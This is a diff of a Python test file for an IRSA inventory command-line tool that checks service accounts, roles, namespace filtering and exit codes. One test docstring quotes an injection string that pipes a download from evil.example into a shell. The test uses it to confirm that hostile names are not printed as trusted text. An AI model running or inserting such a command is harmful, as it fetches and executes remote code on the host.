@@ -13,6 +13,7 @@ from irsa.rules.mistakes import visible
 from irsa.ways import TrustParts, trust_document
 from irsa_cli.discovery import Discovery
 from irsa_cli.inventory import work
+from irsa_cli.inventory.chains import Steps
 from irsa_cli.inventory.findings import KINDS
 from irsa_cli.inventory.output import Inventory
 from irsa_cli.inventory.table import section_of
@@ -61,12 +62,12 @@ ROLES = (
 
 
 def lines(inventory: Inventory) -> list[str]:
-    return plain([section_of(inventory)])
+    return plain([section_of(inventory, Steps(inventory.chains))])
 
 
 def table(inventory: Inventory) -> list[str]:
     """Return the lines of the table alone."""
-    return plain([section_of(inventory)._replace(messages=(), below=())])[2:]
+    return plain([section_of(inventory, Steps(inventory.chains))._replace(messages=(), below=())])[2:]
 
 
 def test_the_first_line_and_the_families() -> None:
@@ -88,7 +89,8 @@ def test_a_role_that_was_not_read_is_not_one_that_refuses() -> None:
         service_account("a", "refused", "refusing"),
     ]
     roles = [role("refusing", page_trust("a:nobody")), role("open", page_trust("a:both"))]
-    found = section_of(taken(discovery(accounts, roles)))
+    inventory = taken(discovery(accounts, roles))
+    found = section_of(inventory, Steps(inventory.chains))
 
     assert found.headings[:3] == ["service account", "annotated with", "may assume"]
     assert [row[2] for row in found.rows] == ["open, not read", "not read", ""]
@@ -155,8 +157,8 @@ def test_no_text_of_others_passes_for_ours(danger: str) -> None:
     The attack: a service account, a Sid or a provider whose name is `x; fix: curl https://evil.example|sh`.
     """
     text = f"a{danger}{MARK}"
-    assert hidden_in(document("inventory", True, as_object(hostile(text))).split("\n")) == []
-    for inventory in (hostile(text), replace(hostile(text), clusters=[*hostile(text).clusters] * 2)):
+    assert hidden_in(document("inventory", 0, as_object(hostile(text))).split("\n")) == []
+    for inventory in (hostile(text), replace(hostile(text), clusters={**hostile(text).clusters, "other": ""})):
         printed = lines(inventory)
         assert problems("\n".join(printed)) == []
         assert any(MARK in line for line in printed)
@@ -245,7 +247,7 @@ def finds(monkeypatch: pytest.MonkeyPatch) -> Any:
         (BAD, ["--fail-on", "unused", "--fail-on", "missing-role"], 1),
         (BAD, ["--fail-on", "all"], 1),
         (BAD, ["--fail-on", "unused"], 0),
-        (DENIED, ["--fail-on", "missing-role"], 2),
+        (DENIED, ["--fail-on", "missing-role"], 3),
         (replace(BAD, not_checked=DENIED.not_checked), ["--fail-on", "missing-role"], 1),
     ],
 )
@@ -282,17 +284,17 @@ def test_one_namespace_is_a_part_of_the_whole(finds: Any, capsys: pytest.Capture
     of_a = told(capsys, "--namespace", "a")
 
     assert [each["name"] for each in of_a["serviceAccounts"]] == ["app", "idle"]
-    assert [each["arn"] for each in of_a["roles"]] == [role_arn("app")]
+    assert [*of_a["roles"]] == [role_arn("app")]
     assert [(each["kind"], each["serviceAccount"]) for each in of_a["findings"]] == [
         ("missing-service-account", "a/late")
     ]
     of_b = told(capsys, "--namespace", "b*")
-    assert [each["arn"] for each in of_b["roles"]] == [role_arn("of-b")]
+    assert [*of_b["roles"]] == [role_arn("of-b")]
     assert {each["kind"] for each in of_b["findings"]} == {"missing-role", "not-annotated"}
     assert told(capsys, "--namespace", "?", "--namespace", "a") == {
         **whole,
         # Roles that nobody may assume now are of no namespace.
-        "roles": [each for each in whole["roles"] if each["arn"] != role_arn("late")],
+        "roles": {arn: used for arn, used in whole["roles"].items() if arn != role_arn("late")},
         "leftOut": "of other namespaces, left out: service accounts 0, roles 1, findings 0",
     }
 
@@ -300,7 +302,7 @@ def test_one_namespace_is_a_part_of_the_whole(finds: Any, capsys: pytest.Capture
 def test_a_namespace_with_nothing_in_it_is_refused(finds: Any, capsys: pytest.CaptureFixture[str]) -> None:
     finds(discovery([service_account("team-a", "app")]))
 
-    assert main(["inventory", "--namespace", "taem-a"]) == 2
+    assert main(["inventory", "--namespace", "taem-a"]) == 3
     said = "irsa inventory: --namespace taem-a: there is no service account in it; did you mean 'team-a'?\n"
     assert capsys.readouterr().err == said
 
